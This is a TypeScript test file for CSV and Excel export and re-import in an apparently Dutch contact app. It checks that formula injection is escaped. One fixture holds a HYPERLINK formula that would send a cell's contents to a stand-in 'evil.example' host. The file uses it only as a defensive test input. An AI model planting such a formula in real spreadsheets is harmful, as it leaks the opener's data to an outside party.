import { describe, expect, it } from 'vitest';
import { neutraliseFormula, toCsv, toXlsx, type ExportCell } from '../../../../shared/export';
import { readTable } from '../../../../shared/import';

const columns = ['Naam', 'E-mail', 'Notities', 'Omzet', 'Actief'];
const rows: ExportCell[][] = [
  ["Ruud van 't Hof", 'ruud@hoekje.nl', 'Zegt: "bel; morgen", en\nniet vandaag', 1234.5, true],
  ['Zoë Jansen', '', '=HYPERLINK("http://evil.example/?d="&A2)', -7, false],
  ['+31 6 1234 5678', '@SUM(1)', '-2+3', null, undefined],
  ['\tTab', '\rCR', 'IJsselmeer € ok', 0, null],
];
/** What reading the file back must give: text with a leading ' where it could have run as a formula. */
const expected = [
  ["Ruud van 't Hof", 'ruud@hoekje.nl', 'Zegt: "bel; morgen", en\nniet vandaag', '1234.5', 'TRUE'],
  ['Zoë Jansen', '', '\'=HYPERLINK("http://evil.example/?d="&A2)', '-7', 'FALSE'],
  ["'+31 6 1234 5678", "'@SUM(1)", "'-2+3", '', ''],
  ["'\tTab", "'\rCR", 'IJsselmeer € ok', '0', ''],
];

describe('neutraliseFormula', () => {
  it.each(['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1'])('escapes %j', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });
  it('leaves ordinary text alone', () => {
    expect(neutraliseFormula('Ruud = klant')).toBe('Ruud = klant');
  });
});

describe('toCsv', () => {
  it('writes UTF-8 with a byte order mark and CRLF, and reads back through the importer', async () => {
    const bytes = toCsv(columns, rows);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(text.split('\r\n')[0]).toBe('\uFEFFNaam,E-mail,Notities,Omzet,Actief');
    const table = await readTable({ name: 'export.csv', bytes });
    expect(table).toMatchObject({ delimiter: ',', encoding: 'utf-8', headers: columns });
    expect(table.rows).toEqual(expected);
  });

  it('writes semicolons for Dutch Excel and quotes only what needs it', async () => {
    const bytes = toCsv(['a', 'b'], [['1,5', 'x;y']], { delimiter: ';', bom: false });
    expect(new TextDecoder().decode(bytes)).toBe('a;b\r\n1,5;"x;y"\r\n');
    const table = await readTable({ name: 'nl.csv', bytes });
    expect(table.delimiter).toBe(';');
    expect(table.rows).toEqual([['1,5', 'x;y']]);
  });
});

describe('toXlsx', () => {
  it('writes a workbook the importer reads back, numbers typed and formulas neutralised', async () => {
    const bytes = toXlsx(columns, rows, { sheetName: 'Mensen: export [1]' });
    const table = await readTable({ name: 'export.xlsx', bytes });
    expect(table).toMatchObject({ format: 'xlsx', sheetNames: ['Mensen  export  1'], headers: columns });
    expect(table.rows).toEqual(expected.map((r) => r.map((c) => c.replace(/\r/g, '\n'))));
  });

  it('writes 10,000 rows into a valid workbook', async () => {
    const many = Array.from({ length: 10_000 }, (_, i) => [
      `Persoon ${i}`,
      `p${i}@example.nl`,
      '',
      i,
      i % 2 === 0,
    ]);
    const table = await readTable({ name: 'big.xlsx', bytes: toXlsx(columns, many) });
    expect(table.rows).toHaveLength(10_000);
    expect(table.rows[9_999]).toEqual(['Persoon 9999', 'p9999@example.nl', '', '9999', 'FALSE']);
  });
});

describe('round trip through the importer', () => {
  it('maps an exported phone number back without the apostrophe that protected it', async () => {
    const { mapRows, suggestMapping } = await import('../../../../shared/import');
    const bytes = toCsv(['Voornaam', 'Telefoon', 'Notities'], [['Eva', '+31 6 1234 5678', '=1+1']]);
    const table = await readTable({ name: 'export.csv', bytes });
    const { candidates, issues } = mapRows(table.rows, suggestMapping(table.headers).mapping);
    expect(candidates[0]!.person.phones).toEqual([{ value: '+31 6 1234 5678', label: 'work' }]);
    expect(candidates[0]!.person.notes).toBe('=1+1');
    expect(issues).toEqual([
      { index: 0, row: 2, column: 3, field: 'notes', code: 'formula_text', severity: 'warning' },
    ]);
  });
});
